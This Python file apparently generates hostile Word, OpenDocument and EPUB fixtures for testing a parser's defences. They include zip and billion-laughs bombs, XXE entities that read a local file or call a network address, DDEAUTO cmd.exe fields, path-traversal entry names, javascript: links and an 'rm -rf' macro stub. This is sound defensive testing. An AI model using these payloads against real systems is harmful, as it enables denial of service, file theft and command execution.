"""Word, OpenDocument and EPUB files that want something: bombs, entities, links, lies about themselves."""

# ruff: noqa: E501 - what is hostile is left in one piece

import io
import struct
import zipfile

SAID = "The ministry opened the port on 3 May 2021. Officials from Norway said that it would stay open."
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
TEXT = "urn:oasis:names:tc:opendocument:xmlns:text:1.0"
OFFICE = "urn:oasis:names:tc:opendocument:xmlns:office:1.0"
ODT_STYLES = "<office:font-face-decls/><office:styles/><office:automatic-styles/><office:master-styles/>"
ODT_TYPE = "application/vnd.oasis.opendocument.text"


def zipped(parts, *, level=zipfile.ZIP_DEFLATED):
    """A zip of (name, data) pairs; data may be text."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", level) as archive:
        for name, data in parts:
            kind = zipfile.ZIP_STORED if name == "mimetype" else level
            archive.writestr(zipfile.ZipInfo(name), data, compress_type=kind)
    return buffer.getvalue()


def docx(body=None, *, prolog="", more=(), relations=""):
    """A Word file; `body` is the XML inside w:body, `prolog` stands before the root element."""
    types = (
        f'<Types xmlns="{PACKAGE}/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-'
        'package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/'
        'document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
        "</Types>"
    )
    root = (
        f'<Relationships xmlns="{PACKAGE}/relationships"><Relationship Id="r1" Type="{RELATIONS}/officeDocument" '
        'Target="word/document.xml"/></Relationships>'
    )
    own = f'<Relationships xmlns="{PACKAGE}/relationships">{relations}</Relationships>'
    body = word_paragraph(SAID) if body is None else body
    document = f'<?xml version="1.0"?>{prolog}<w:document xmlns:w="{W}" xmlns:r="{RELATIONS}"><w:body>{body}</w:body></w:document>'
    return zipped(
        [
            ("[Content_Types].xml", types),
            ("_rels/.rels", root),
            ("word/document.xml", document),
            ("word/_rels/document.xml.rels", own),
            *more,
        ]
    )


def odt(body=None, *, prolog="", more=()):
    body = f"<text:p>{SAID}</text:p>" if body is None else body
    content = (
        f'<?xml version="1.0"?>{prolog}<office:document-content xmlns:office="{OFFICE}" xmlns:text="{TEXT}" '
        'xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0">'
        f"<office:font-face-decls/><office:automatic-styles/><office:body><office:text>{body}</office:text></office:body></office:document-content>"
    )
    manifest = (
        '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry '
        f'manifest:full-path="/" manifest:media-type="{ODT_TYPE}"/></manifest:manifest>'
    )
    styles = (
        f'<?xml version="1.0"?><office:document-styles xmlns:office="{OFFICE}">{ODT_STYLES}</office:document-styles>'
    )
    parts = [
        ("mimetype", ODT_TYPE),
        ("content.xml", content),
        ("styles.xml", styles),
        ("META-INF/manifest.xml", manifest),
    ]
    return zipped([*parts, *more])


def epub(body=None, *, prolog="", more=(), head=""):
    body = f"<p>{SAID}</p>" if body is None else body
    container = (
        '<container version="1.0" xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles><rootfile '
        'full-path="a.opf" media-type="application/oebps-package+xml"/></rootfiles></container>'
    )
    package = (
        '<package xmlns="http://www.idpf.org/2007/opf" version="3.0" unique-identifier="i"><metadata xmlns:dc='
        '"http://purl.org/dc/elements/1.1/"><dc:identifier id="i">x</dc:identifier><dc:title>The port</dc:title>'
        "<dc:language>en</dc:language></metadata><manifest><item id='c' href='c.xhtml' media-type="
        "'application/xhtml+xml'/></manifest><spine><itemref idref='c'/></spine></package>"
    )
    page = (
        f'<?xml version="1.0"?>{prolog}<html xmlns="http://www.w3.org/1999/xhtml" '
        'xmlns:xi="http://www.w3.org/2001/XInclude">'
        f"<head><title>The port</title>{head}</head><body><h1>The port</h1>{body}</body></html>"
    )
    parts = [("mimetype", "application/epub+zip"), ("META-INF/container.xml", container), ("a.opf", package)]
    return zipped([*parts, ("c.xhtml", page), *more])


def word_paragraph(words):
    return f"<w:p><w:r><w:t>{words}</w:t></w:r></w:p>"


MAKERS = {
    "docx": (docx, word_paragraph),
    "odt": (odt, "<text:p>{}</text:p>".format),
    "epub": (epub, "<p>{}</p>".format),
}


def of_every_kind(lure):
    """What can be done to each of the three: name -> bytes."""
    cases = {}
    for kind, (make, paragraph) in MAKERS.items():
        whole = make()
        entity = f'<!DOCTYPE x [<!ENTITY e SYSTEM "{lure.file}">]>'
        remote = f'<!DOCTYPE x [<!ENTITY e SYSTEM "{lure.address}/entity">]>'
        laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
        nested = {
            "docx": ("<w:sdt><w:sdtContent>", "</w:sdtContent></w:sdt>"),
            "odt": ("<text:section>", "</text:section>"),
        }
        opening, closing = nested.get(kind, ("<div>", "</div>"))
        said = paragraph(SAID)
        cases |= {
            f"bomb.{kind}": make(more=[("big.bin", bytes(60_000_000))]),
            f"bomb-in-text.{kind}": make(paragraph("a " * 30_000_000)),
            f"many-parts.{kind}": make(more=[(f"part{n}.xml", "") for n in range(30_000)]),
            f"entity-file.{kind}": make(paragraph("&e;") + said, prolog=entity),
            f"entity-network.{kind}": make(paragraph("&e;") + said, prolog=remote),
            f"dtd-network.{kind}": make(prolog=f'<!DOCTYPE x SYSTEM "{lure.address}/dtd">'),
            f"parameter-entity.{kind}": make(prolog=f'<!DOCTYPE x [<!ENTITY % p SYSTEM "{lure.address}/p"> %p;]>'),
            f"billion-laughs.{kind}": make(paragraph("&l9;"), prolog=f'<!DOCTYPE x [<!ENTITY l0 "ha">{laughs}]>'),
            f"quadratic.{kind}": make(paragraph("&a;" * 20_000), prolog=f'<!DOCTYPE x [<!ENTITY a "{"a" * 20_000}">]>'),
            f"nested-3000.{kind}": make(opening * 3000 + said + closing * 3000),
            f"nested-100000.{kind}": make(opening * 100_000 + said + closing * 100_000),
            f"climbing-names.{kind}": make(more=[("../../x.txt", "x"), ("/etc/x.txt", "x"), ("..\\..\\y", "y")]),
            f"twice-the-same-part.{kind}": _doubled(make()),
            f"cut-in-half.{kind}": whole[: len(whole) // 2],
            f"cut-at-the-end.{kind}": whole[:-30],
            f"password-flag.{kind}": _with_password_flag(whole),
            f"lies-about-size.{kind}": _with_small_sizes(make(paragraph("a " * 10_000_000))),
            f"garbage-in-the-middle.{kind}": whole[:300] + bytes(range(256)) + whole[556:],
            f"zip-in-zip.{kind}": make(more=[("inner.zip", zipped([("inner.zip", bytes(50_000_000))]))]),
            f"comment-behind.{kind}": whole + b"PK\x05\x06" + b"\xff" * 40,
        }
    return cases


def with_links(lure):
    """Each asks for a file or an address in its own format's way."""
    relation = '<Relationship Id="x1" Type="{}/{}" TargetMode="External" Target="{}"/>'
    template = relation.format(RELATIONS, "attachedTemplate", f"{lure.address}/template.dotm")
    picture = relation.format(RELATIONS, "image", lure.file)
    chunk = f'<Relationship Id="x1" Type="{RELATIONS}/aFChunk" Target="chunk.html"/>'
    field = '<w:p><w:fldSimple w:instr="{}"><w:r><w:t>seen</w:t></w:r></w:fldSimple></w:p>'
    drawing = '<w:p><w:r><w:pict xmlns:v="urn:schemas-microsoft-com:vml"><v:shape><v:imagedata r:link="x1"/></v:shape></w:pict></w:r></w:p>'
    script = relation.format(RELATIONS, "hyperlink", "javascript:alert(1)")
    linked = f'<w:p><w:hyperlink r:id="x1"><w:r><w:t>{SAID}</w:t></w:r></w:hyperlink></w:p>'
    image = '<draw:frame><draw:image xlink:href="{}" xlink:type="simple"/></draw:frame>'
    macro = '<office:script xmlns:script="urn:x"><script:x>rm -rf</script:x></office:script>'
    said = word_paragraph(SAID)
    return {
        "template.docx": docx(relations=template),
        "picture-file.docx": docx(drawing + said, relations=picture),
        "html-chunk.docx": docx(
            '<w:altChunk r:id="x1"/>' + said, relations=chunk, more=[("word/chunk.html", f"<img src='{lure.file}'>")]
        ),
        "include-text.docx": docx(field.format(f"INCLUDETEXT &quot;{lure.path}&quot;") + said),
        "include-picture.docx": docx(field.format(f"INCLUDEPICTURE &quot;{lure.address}/p.png&quot;") + said),
        "dde.docx": docx(field.format("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe") + said),
        "script-link.docx": docx(linked, relations=script),
        "macro.docx": docx(more=[("word/vbaProject.bin", b"\xd0\xcf\x11\xe0" + bytes(600))]),
        "markup-as-text.docx": docx(word_paragraph("&lt;script&gt;alert(1)&lt;/script&gt;") + said),
        "picture-file.odt": odt(f"<text:p>{SAID}{image.format(lure.file)}</text:p>"),
        "picture-network.odt": odt(f"<text:p>{SAID}{image.format(lure.address + '/p.png')}</text:p>"),
        "section-file.odt": odt(
            f'<text:section><text:section-source xlink:href="{lure.file}"/><text:p>{SAID}</text:p></text:section>'
        ),
        "script-link.odt": odt(f'<text:p><text:a xlink:href="javascript:alert(1)">{SAID}</text:a></text:p>'),
        "macro.odt": odt(macro + f"<text:p>{SAID}</text:p>"),
        "script.epub": epub(f"<script>alert(1)</script><p onclick='alert(2)'>{SAID}</p>"),
        "frame-file.epub": epub(f"<iframe src='{lure.file}'></iframe><p>{SAID}</p>"),
        "picture-climbs.epub": epub(f"<img src='../../../../../../..{lure.path}'/><p>{SAID}</p>"),
        "style-network.epub": epub(head=f"<link rel='stylesheet' href='{lure.address}/s.css'/>"),
        "include.epub": epub(f"<xi:include href='{lure.file}' parse='text'/><p>{SAID}</p>"),
        "spine-climbs.epub": epub().replace(b"c.xhtml", b"../../x"),
    }


def _doubled(data):
    import warnings

    buffer = io.BytesIO(data)
    with warnings.catch_warnings(), zipfile.ZipFile(buffer, "a") as archive:
        warnings.simplefilter("ignore")
        for name in archive.namelist():
            archive.writestr(name, "<x/>")
    return buffer.getvalue()


def _with_password_flag(data):
    """Set the flag for encryption in every header."""
    changed = bytearray(data)
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = changed.find(signature)
        while place >= 0:
            changed[place + offset] |= 1
            place = changed.find(signature, place + 4)
    return bytes(changed)


def _with_small_sizes(data):
    """Say in every header that parts unpack to ten bytes."""
    changed = bytearray(data)
    for signature, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        place = changed.find(signature)
        while place >= 0:
            struct.pack_into("<I", changed, place + offset, 10)
            place = changed.find(signature, place + 4)
    return bytes(changed)
